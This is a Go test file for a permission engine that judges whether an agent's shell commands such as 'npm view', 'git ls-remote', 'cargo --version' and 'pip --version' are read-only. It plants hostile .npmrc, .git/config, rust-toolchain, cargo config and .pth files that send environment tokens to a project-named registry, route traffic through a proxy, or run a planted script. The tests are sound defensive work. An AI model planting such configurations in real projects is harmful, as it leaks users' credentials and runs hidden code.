package engine_test

import (
	"context"
	"net"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/permopa/permopa/engine"
	"github.com/permopa/permopa/permission"
	"github.com/permopa/permopa/settings"
)

// A project .npmrc that names its own registry and writes ${NAME} into a
// value sends the environment's NAME there with `npm view`, a read-only
// command by its words (docs/shell.md, "What a program reads besides its
// argv"). The real npm is run against a registry on loopback first: the
// token arrives, so the case proves the effect; then the decision on
// that project must not be ALLOW, under an allow rule for the command
// too, while the usual CI setup (the token scoped to registry.npmjs.org)
// stays read-only.
func TestProjectNpmrcCannotSendEnvironmentElsewhere(t *testing.T) {
	t.Parallel()
	root, err := filepath.EvalSymlinks(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	home, p := filepath.Join(root, "home"), filepath.Join(root, "p")
	writeModeFile(t, filepath.Join(p, "package.json"), `{"name": "p", "version": "1.0.0"}`, 0o644)

	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	var mu sync.Mutex
	var seen []string
	srv := &http.Server{Handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		mu.Lock()
		seen = append(seen, r.Header.Get("Authorization"))
		mu.Unlock()
		http.NotFound(w, r)
	})}
	go srv.Serve(ln)
	t.Cleanup(func() { srv.Close() })
	host := ln.Addr().String()
	hostile := "registry=http://" + host + "/\n//" + host + "/:_authToken=${PLANTED_TOKEN}\n"

	// The real npm only with -tags slow (.ci/run): what it proves is the
	// premise, and the decisions below are judged in process in the quick
	// suite too (docs/development.md "The quick suite").
	if _, err := exec.LookPath("npm"); err == nil && slowTests {
		writeModeFile(t, filepath.Join(p, ".npmrc"), hostile, 0o644)
		ctx, cancel := context.WithTimeout(context.Background(), 60*time.Second)
		defer cancel()
		cmd := exec.CommandContext(ctx, "npm", "view", "left-pad")
		cmd.Dir = p
		cmd.Env = append(os.Environ(), "HOME="+home, "PLANTED_TOKEN=s3cr3t-from-env",
			"npm_config_cache="+filepath.Join(root, "cache"), "npm_config_update_notifier=false")
		out, _ := cmd.CombinedOutput()
		mu.Lock()
		got := strings.Join(seen, " ")
		mu.Unlock()
		if !strings.Contains(got, "s3cr3t-from-env") {
			t.Fatalf("real npm view did not send the variable to the project's registry: the case proves nothing (headers %q)\n%s", got, out)
		}
	}

	ctx := context.Background()
	eng, err := newEngine(ctx, engine.WithSettings(settings.Settings{Home: home, Cwd: p,
		Rules: []permission.Rule{mustRule(t, "Bash(npm view:*)"), mustRule(t, "Bash(npm ls:*)"), mustRule(t, "Bash(yarn info:*)")}}))
	if err != nil {
		t.Fatal(err)
	}
	decide := func(cmd, mode string) permission.Decision {
		return eng.Decide(ctx, map[string]any{"tool_name": "Bash", "tool_input": map[string]any{"command": cmd},
			"cwd": p, "permission_mode": mode})
	}
	for _, c := range []struct{ body, cmd string }{
		{hostile, "npm view left-pad"},
		{hostile, "yarn info left-pad"},
		{"@x:registry=http://" + host + "/\nuser-agent=${AWS_SECRET_ACCESS_KEY}\n", "npm view @x/y"},
		{"https-proxy=http://" + host + "/\nstrict-ssl=false\n", "npm view left-pad"},
	} {
		writeModeFile(t, filepath.Join(p, ".npmrc"), c.body, 0o644)
		if d := decide(c.cmd, "plan"); d.Behavior == permission.Allow {
			t.Errorf("plan: %q with .npmrc %q: ALLOW (%s)", c.cmd, c.body, d.Message)
		}
		if d := decide(c.cmd, "default"); d.Behavior != permission.Ask || !d.BypassImmune || !strings.Contains(d.Message, ".npmrc") {
			t.Errorf("default, allow rule: %q with .npmrc %q: %s/%s (%s), want a safety ASK naming .npmrc", c.cmd, c.body, d.Behavior, d.Step, d.Message)
		}
	}
	writeModeFile(t, filepath.Join(p, ".npmrc"), "//registry.npmjs.org/:_authToken=${NPM_TOKEN}\nsave-exact=true\n", 0o644)
	for _, cmd := range []string{"npm view left-pad", "npm ls"} {
		if d := decide(cmd, "plan"); d.Behavior != permission.Allow || d.Step != permission.StepReadOnly {
			t.Errorf("the CI token setup: plan: %q: %s/%s (%s), want read-only", cmd, d.Behavior, d.Step, d.Message)
		}
	}
}

// git ls-remote and git remote show are network reads by their words; a
// repository's http settings can make them read and write files anywhere
// (cookie files) or carry the user's credentials through a proxy the
// project names. The real git is run against servers on loopback first:
// it writes the cookie jar outside the project and sends its request to
// the proxy; then neither command is read-only in that repository.
func TestRepositoryHTTPConfigIsNotReadOnly(t *testing.T) {
	t.Parallel()
	if _, err := exec.LookPath("git"); err != nil {
		t.Skip("git not installed")
	}
	root, err := filepath.EvalSymlinks(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	home, w := filepath.Join(root, "home"), filepath.Join(root, "w")
	env := append(os.Environ(), "HOME="+home, "GIT_CONFIG_NOSYSTEM=1", "GIT_CONFIG_GLOBAL=/dev/null", "GIT_TERMINAL_PROMPT=0")
	git := func(args ...string) ([]byte, error) {
		ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
		defer cancel()
		cmd := exec.CommandContext(ctx, "git", args...)
		cmd.Dir, cmd.Env = w, env
		return cmd.CombinedOutput()
	}
	if err := os.MkdirAll(w, 0o755); err != nil {
		t.Fatal(err)
	}
	if out, err := git("init", "-q"); err != nil {
		t.Fatalf("git init: %v\n%s", err, out)
	}
	var mu sync.Mutex
	var seen []string
	serve := func() string {
		ln, err := net.Listen("tcp", "127.0.0.1:0")
		if err != nil {
			t.Fatal(err)
		}
		srv := &http.Server{Handler: http.HandlerFunc(func(rw http.ResponseWriter, r *http.Request) {
			mu.Lock()
			seen = append(seen, r.Method+" "+r.Host)
			mu.Unlock()
			// A dumb-HTTP remote with no refs: git exits normally (and
			// saves its cookies).
			http.SetCookie(rw, &http.Cookie{Name: "planted", Value: "x", Path: "/"})
			rw.Header().Set("Content-Type", "text/plain")
			rw.WriteHeader(http.StatusOK)
		})}
		go srv.Serve(ln)
		t.Cleanup(func() { srv.Close() })
		return ln.Addr().String()
	}
	remote, proxy := serve(), serve()
	jar := filepath.Join(root, "outside", "jar")
	if err := os.MkdirAll(filepath.Dir(jar), 0o755); err != nil {
		t.Fatal(err)
	}
	cases := []struct{ name, config, proof string }{
		{"cookie jar", "[remote \"origin\"]\n\turl = http://" + remote + "/r.git\n[http]\n\tcookieFile = " + jar + "\n\tsaveCookies = true\n", "jar"},
		{"proxy", "[remote \"origin\"]\n\turl = http://unreachable.invalid/r.git\n[http]\n\tproxy = http://" + proxy + "\n", "GET unreachable.invalid"},
	}
	for _, c := range cases {
		if err := os.WriteFile(filepath.Join(w, ".git/config"), []byte("[core]\n\trepositoryformatversion = 0\n\tbare = false\n"+c.config), 0o644); err != nil {
			t.Fatal(err)
		}
		git("ls-remote", "origin")
		mu.Lock()
		got := strings.Join(seen, ",")
		mu.Unlock()
		if c.proof == "jar" {
			if _, err := os.Stat(jar); err != nil {
				t.Fatalf("%s: real git ls-remote wrote no cookie file outside the project: the case proves nothing (%v; requests %s)", c.name, err, got)
			}
		} else if !strings.Contains(got, c.proof) {
			t.Fatalf("%s: real git ls-remote did not go through the project's proxy: the case proves nothing (requests %s)", c.name, got)
		}
	}

	ctx := context.Background()
	eng, err := newEngine(ctx, engine.WithSettings(settings.Settings{Home: home, Cwd: w,
		Rules: []permission.Rule{mustRule(t, "Bash(git ls-remote:*)")}}))
	if err != nil {
		t.Fatal(err)
	}
	for _, c := range cases {
		if err := os.WriteFile(filepath.Join(w, ".git/config"), []byte("[core]\n\tbare = false\n"+c.config), 0o644); err != nil {
			t.Fatal(err)
		}
		for _, cmd := range []string{"git ls-remote origin", "git remote show origin"} {
			d := eng.Decide(ctx, map[string]any{"tool_name": "Bash", "tool_input": map[string]any{"command": cmd}, "cwd": w, "permission_mode": "plan"})
			if d.Behavior == permission.Allow {
				t.Errorf("%s: plan: %q: ALLOW (%s)", c.name, cmd, d.Message)
			}
		}
		d := eng.Decide(ctx, map[string]any{"tool_name": "Bash", "tool_input": map[string]any{"command": "git ls-remote origin"}, "cwd": w, "permission_mode": "default"})
		if d.Behavior != permission.Ask || !d.BypassImmune || !strings.Contains(d.Message, ".git/config") {
			t.Errorf("%s: default, allow rule: %s/%s (%s), want a safety ASK naming .git/config", c.name, d.Behavior, d.Step, d.Message)
		}
	}
}

// rustup's proxies (cargo, rustc) run the toolchain the project's
// rust-toolchain.toml names, a directory of the project's too; cargo runs
// the credential providers its .cargo/config.toml names when a registry
// asks for a token. Both are run for real first (a marker file shows the
// project's program ran), then `cargo --version`, `rustc -V` and `cargo
// search` are not read-only there, while a toolchain file naming an
// installed channel keeps `cargo --version` read-only.
func TestRustProjectConfigIsNotReadOnly(t *testing.T) {
	t.Parallel()
	cargo, err := exec.LookPath("cargo")
	if err != nil {
		t.Skip("cargo not installed")
	}
	if target, _ := filepath.EvalSymlinks(cargo); filepath.Base(target) != "rustup" && filepath.Base(target) != "rustup-init" {
		t.Skipf("cargo is not rustup's proxy (%s)", target)
	}
	root, err := filepath.EvalSymlinks(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	p := filepath.Join(root, "p")
	home, _ := os.UserHomeDir() // rustup's toolchains are the user's
	marker := filepath.Join(root, "ran")
	evil := "#!/bin/sh\necho ran >> " + marker + "\necho tok\n"
	writeModeFile(t, filepath.Join(p, "tc", "bin", "cargo"), evil, 0o755)
	writeModeFile(t, filepath.Join(p, "tc", "bin", "rustc"), evil, 0o755)
	writeModeFile(t, filepath.Join(p, "evil.sh"), evil, 0o755)
	toolchain := "[toolchain]\npath = \"" + filepath.Join(p, "tc") + "\"\n"

	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	api := "http://" + ln.Addr().String()
	srv := &http.Server{Handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "application/json")
		if strings.HasSuffix(r.URL.Path, "/config.json") {
			w.Write([]byte(`{"dl":"` + api + `/dl","api":"` + api + `","auth-required":true}`))
			return
		}
		w.Write([]byte(`{"crates":[],"meta":{"total":0}}`))
	})}
	go srv.Serve(ln)
	t.Cleanup(func() { srv.Close() })
	cargoConfig := "[registry]\nglobal-credential-providers = [\"cargo:token-from-stdout " + filepath.Join(p, "evil.sh") + "\"]\ndefault = \"planted\"\n[registries.planted]\nindex = \"sparse+" + api + "/\"\n"

	run := func(args ...string) {
		ctx, cancel := context.WithTimeout(context.Background(), 60*time.Second)
		defer cancel()
		cmd := exec.CommandContext(ctx, args[0], args[1:]...)
		cmd.Dir = p
		cmd.Env = append(os.Environ(), "CARGO_HOME="+filepath.Join(root, "cargohome"))
		cmd.CombinedOutput()
	}
	ran := func() bool {
		_, err := os.Stat(marker)
		os.Remove(marker)
		return err == nil
	}
	writeModeFile(t, filepath.Join(p, "rust-toolchain.toml"), toolchain, 0o644)
	if run("cargo", "--version"); !ran() {
		t.Fatal("real cargo --version did not run the toolchain the project names: the case proves nothing")
	}
	os.Remove(filepath.Join(p, "rust-toolchain.toml"))
	writeModeFile(t, filepath.Join(p, ".cargo", "config.toml"), cargoConfig, 0o644)
	if run("cargo", "search", "x"); !ran() {
		t.Fatal("real cargo search did not run the credential provider the project names: the case proves nothing")
	}
	os.Remove(filepath.Join(p, ".cargo", "config.toml"))

	ctx := context.Background()
	eng, err := newEngine(ctx, engine.WithSettings(settings.Settings{Home: home, Cwd: p,
		Rules: []permission.Rule{mustRule(t, "Bash(cargo search:*)"), mustRule(t, "Bash(cargo --version)")}}))
	if err != nil {
		t.Fatal(err)
	}
	decide := func(cmd, mode string) permission.Decision {
		return eng.Decide(ctx, map[string]any{"tool_name": "Bash", "tool_input": map[string]any{"command": cmd},
			"cwd": p, "permission_mode": mode})
	}
	for _, c := range []struct{ file, body string }{
		{"rust-toolchain.toml", toolchain},
		{"rust-toolchain", filepath.Join(p, "tc") + "\n"},
		{"rust-toolchain.toml", "[toolchain]\nchannel = \"1.0.0-never-installed\"\n"},
		{".cargo/config.toml", cargoConfig},
		{".cargo/config", "[http]\nproxy = \"" + api + "\"\n"},
	} {
		f := filepath.Join(p, c.file)
		writeModeFile(t, f, c.body, 0o644)
		for _, cmd := range []string{"cargo --version", "cargo search x", "rustc -V"} {
			if strings.HasPrefix(c.file, ".cargo") && cmd == "rustc -V" {
				continue // rustc does not read cargo's configuration
			}
			if d := decide(cmd, "plan"); d.Behavior == permission.Allow {
				t.Errorf("%s: plan: %q: ALLOW (%s)", c.file, cmd, d.Message)
			}
			if d := decide(cmd, "default"); cmd != "rustc -V" && (d.Behavior != permission.Ask || !d.BypassImmune || !strings.Contains(d.Message, c.file)) {
				t.Errorf("%s: default, allow rules: %q: %s/%s (%s), want a safety ASK naming the file", c.file, cmd, d.Behavior, d.Step, d.Message)
			}
		}
		os.Remove(f)
	}
	rustupHome := os.Getenv("RUSTUP_HOME")
	if rustupHome == "" {
		rustupHome = filepath.Join(home, ".rustup")
	}
	installed, err := os.ReadDir(filepath.Join(rustupHome, "toolchains"))
	if err != nil || len(installed) == 0 {
		t.Fatalf("rustup has no toolchain installed (%v): cargo above could not have run", err)
	}
	writeModeFile(t, filepath.Join(p, "rust-toolchain.toml"), "[toolchain]\nchannel = \""+installed[0].Name()+"\"\nprofile = \"minimal\"\n", 0o644)
	for _, cmd := range []string{"cargo --version", "cargo search x", "rustc -V"} {
		if d := decide(cmd, "plan"); d.Behavior != permission.Allow || d.Step != permission.StepReadOnly {
			t.Errorf("an installed channel: plan: %q: %s/%s (%s), want read-only", cmd, d.Behavior, d.Step, d.Message)
		}
	}
}

// An activated virtual environment inside the project puts its bin first
// on PATH: `pip --version` then runs the project's python with the
// project's site-packages, whose .pth files run code at start. The real
// venv is made and run first (the .pth leaves a marker), then, with that
// PATH in the deciding process (a hook's is the host's), pip is not
// read-only there, under an allow rule either, while `ls` (found in the
// system's directories) stays read-only. Not parallel: it sets PATH.
func TestProjectProgramOnPathIsNotReadOnly(t *testing.T) {
	root, err := filepath.EvalSymlinks(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	p := filepath.Join(root, "p")
	if err := os.MkdirAll(filepath.Join(p, "src"), 0o755); err != nil {
		t.Fatal(err)
	}
	venv := filepath.Join(p, ".venv")
	path := filepath.Join(venv, "bin") + ":" + os.Getenv("PATH")
	if slowTests {
		// The real venv only with -tags slow (.ci/run): it proves the
		// premise; the decisions below, on the same pip in the
		// project's .venv/bin, are judged in the quick suite too
		// (docs/development.md "The quick suite").
		python, err := exec.LookPath("python3")
		if err != nil {
			t.Skip("python3 not installed")
		}
		ctx, cancel := context.WithTimeout(context.Background(), 120*time.Second)
		defer cancel()
		if out, err := exec.CommandContext(ctx, python, "-m", "venv", "--without-pip", venv).CombinedOutput(); err != nil {
			t.Skipf("python3 -m venv: %v\n%s", err, out)
		}
		site, _ := filepath.Glob(filepath.Join(venv, "lib", "python3*", "site-packages"))
		if len(site) != 1 {
			t.Fatalf("venv site-packages: %v", site)
		}
		marker := filepath.Join(root, "ran")
		writeModeFile(t, filepath.Join(site[0], "planted.pth"), "import os; open("+strconvQuote(marker)+", 'w').write('x')\n", 0o644)
		writeModeFile(t, filepath.Join(venv, "bin", "pip"), "#!"+filepath.Join(venv, "bin", "python")+"\nprint('pip 0')\n", 0o755)
		cmd := exec.CommandContext(ctx, "/bin/sh", "-c", "pip --version") // the shell looks pip up on PATH
		cmd.Dir = p
		cmd.Env = append(os.Environ(), "PATH="+path)
		if out, err := cmd.CombinedOutput(); err != nil {
			t.Fatalf("pip --version in the venv: %v\n%s", err, out)
		}
		if _, err := os.Stat(marker); err != nil {
			t.Fatal("the venv's pip did not run the project's .pth: the case proves nothing")
		}
	} else {
		writeModeFile(t, filepath.Join(venv, "bin", "pip"), "#!"+filepath.Join(venv, "bin", "python")+"\nprint('pip 0')\n", 0o755)
	}

	t.Setenv("PATH", path)
	eng, err := newEngine(context.Background(), engine.WithSettings(settings.Settings{Cwd: p,
		Rules: []permission.Rule{mustRule(t, "Bash(pip --version)"), mustRule(t, "Bash(pip list:*)")}}))
	if err != nil {
		t.Fatal(err)
	}
	decide := func(cmd, mode, cwd string) permission.Decision {
		return eng.Decide(context.Background(), map[string]any{"tool_name": "Bash", "tool_input": map[string]any{"command": cmd},
			"cwd": cwd, "permission_mode": mode})
	}
	for _, c := range []struct{ cmd, cwd string }{
		{"pip --version", p}, {"pip list", p}, {"cd src && pip list", p}, {"ls && pip --version", p},
		{"xargs pip show < reqs.txt", p}, {"env pip --version", p}, {`cd "$D" && pip list`, p},
	} {
		if d := decide(c.cmd, "plan", c.cwd); d.Behavior == permission.Allow {
			t.Errorf("plan: %q: ALLOW (%s)", c.cmd, d.Message)
		}
	}
	if d := decide("pip --version", "default", p); d.Behavior != permission.Ask || !d.BypassImmune || !strings.Contains(d.Message, ".venv/bin/pip") {
		t.Errorf("default, allow rule: pip --version: %s/%s (%s), want a safety ASK naming .venv/bin/pip", d.Behavior, d.Step, d.Message)
	}
	for _, cmd := range []string{"ls", "cat README", "git --version"} {
		if d := decide(cmd, "plan", p); d.Behavior != permission.Allow {
			t.Errorf("plan: %q: %s/%s (%s), want read-only", cmd, d.Behavior, d.Step, d.Message)
		}
	}
}

func strconvQuote(s string) string { return "'" + strings.ReplaceAll(s, "'", `\'`) + "'" }
